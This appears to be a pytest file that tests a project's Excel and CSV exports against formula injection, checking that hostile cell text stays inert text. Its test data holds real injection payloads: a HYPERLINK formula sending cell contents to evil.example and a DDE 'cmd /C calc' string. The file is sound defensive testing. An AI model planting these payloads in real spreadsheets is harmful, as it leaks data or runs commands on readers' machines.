"""Issue 17.3: every workbook we write keeps text as text.

A provider named ``=HYPERLINK(…)`` came out of the protocol Excel as a live formula
(XlsxWriter's ``write``/``write_row`` guess types). Each workbook the project produces is
made here with hostile text in its text cells, opened, and searched for formulas.
"""

import datetime
import io
import types
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from osms.core.workbooks import SafeCSV, SafeXLSX, neutral_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "http://evil.example/"]


def assert_no_formula(content, *, expect_text=EVIL):
    """No formula nor hyperlink anywhere in the package, and the hostile text is kept."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = package.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert "<hyperlink" not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(expect_text in text for text in texts), texts[:20]


def test_protocol_excel(almaty):
    from purchasing.exports import protocol_xlsx
    from tests.purchasing.scenario import build

    scenario = build(almaty, prefix="fx")
    provider = scenario.providers[0]
    type(provider).objects.filter(pk=provider.pk).update(name=EVIL)
    assert_no_formula(protocol_xlsx(scenario.protocol))


def test_notice_and_summary_excel():
    from reconciliation.notices import notice_xlsx, summary_xlsx

    line = {"iin": "871008401427", "person": EVIL, "kind": "employer_deduction",
            "type": "declared_not_paid", "other_period": "@SUM(1,1)", "income": "300000",
            "declared": "9000", "paid": "0", "expected": "9000", "amount": "9000"}
    notice = types.SimpleNamespace(number="202601-1", lines=[line])
    assert_no_formula(notice_xlsx(notice))
    row = types.SimpleNamespace(period=datetime.date(2026, 1, 1),
                                region=types.SimpleNamespace(name=EVIL), payer_type="-1+1",
                                expected=Decimal("1"), declared=None, collected=Decimal("2"),
                                gap=Decimal("1"), persons=3)
    assert_no_formula(summary_xlsx([row]))


def test_uninsured_report_excel():
    from coverage.admin.reports import uninsured_report_xlsx

    assert_no_formula(uninsured_report_xlsx([["750000000", EVIL, 1, 2, 3, 6]]))


def test_package_comparison_excel(db):
    from packages.compare import CareRow, Comparison, DiseaseRow, comparison_xlsx
    from packages.models import CareType

    care = CareType.objects.first()
    care.name_ru = care.name_kk = care.name_en = EVIL
    comparison = Comparison(
        before=types.SimpleNamespace(code="2025"), after=types.SimpleNamespace(code="2026"),
        care=[CareRow(care, "+1", "-1")],
        diseases=[DiseaseRow(care, "I10", EVIL, "@I10", "=1", "=2")])
    assert_no_formula(comparison_xlsx(comparison))


def test_streaming_export_sinks(tmp_path):
    from osms.exports.columns import TEXT
    from osms.exports.writers import CsvSink, XlsxSink

    columns = [types.SimpleNamespace(header="name", kind=TEXT, width=20)]
    sink = XlsxSink(tmp_path / "x.xlsx", columns=columns, sheet_title="S")
    sink.write_rows([[value] for value in HOSTILE])
    sink.close()
    assert_no_formula((tmp_path / "x.xlsx").read_bytes())
    sink = CsvSink(tmp_path / "x.csv", columns=columns)
    sink.write_rows([[value] for value in HOSTILE])
    sink.close()
    cells = (tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    assert all(cell.lstrip('"').startswith("'") for cell in cells[:5]), cells
    assert cells[5] == "http://evil.example/"


@pytest.mark.parametrize("value", HOSTILE[:5])
def test_csv_cells_are_neutralised(value):
    assert neutral_text(value) == "'" + value
    assert neutral_text("Алматы") == "Алматы" and neutral_text(5) == 5


def test_admin_import_export_formats(db):
    import tablib

    dataset = tablib.Dataset(headers=["iin", "last_name", "amount", "born"], title="Persons")
    for value in HOSTILE:
        dataset.append(["871008401427", value, Decimal("10.50"), datetime.date(1987, 10, 8)])
    assert_no_formula(SafeXLSX().export_data(dataset))
    text = SafeCSV().export_data(dataset)
    for value in HOSTILE[:5]:
        assert "'" + value.replace('"', '""') in text, value
    book = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)))
    assert book.active["C2"].value == 10.5


def test_every_xlsxwriter_workbook_goes_through_the_helper():
    """A new writer calling xlsxwriter.Workbook directly would guess types again."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        skipped = {".venv", "tests", "bench"}  # benchmarks compare with plain XlsxWriter
        if skipped & set(path.parts) or path.name == "workbooks.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter.Workbook(" in text or "import xlsxwriter" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
